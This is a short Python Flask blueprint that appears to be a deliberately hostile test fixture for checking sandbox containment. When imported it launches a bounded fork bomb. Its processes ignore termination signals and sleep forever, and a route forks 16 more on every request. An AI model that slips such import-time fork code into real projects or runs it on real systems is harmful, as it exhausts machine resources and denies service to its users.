"""Hostile: a fork bomb at import (bounded: 2**8 + 256 processes, so a broken
sandbox cannot take the test machine down), whose processes ignore SIGTERM and
SIGHUP and sleep forever; every request forks 16 more.

The bomb's processes fork on after the import is done, so the importing one
then forks (at most 256 more) until it is refused: the cap is full before the
first request, whatever the timing."""

import os
import signal
import time

from flask import Blueprint

blue = Blueprint("blue", __name__)


def _linger():
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    signal.signal(signal.SIGHUP, signal.SIG_IGN)
    while True:
        time.sleep(3600)


def _bomb(generations):
    forked = False
    for _ in range(generations):
        try:
            forked = os.fork() == 0 or forked
        except OSError:
            break
    if forked:
        _linger()


def _fill():
    for _ in range(256):
        try:
            if os.fork() == 0:
                _linger()
        except OSError:
            return


_bomb(8)
_fill()


@blue.route("/testroute3/<int:money>/")
def testroute3(money):
    for _ in range(16):
        if os.fork() == 0:
            _linger()
    return f"money={money} next={money + 1}"
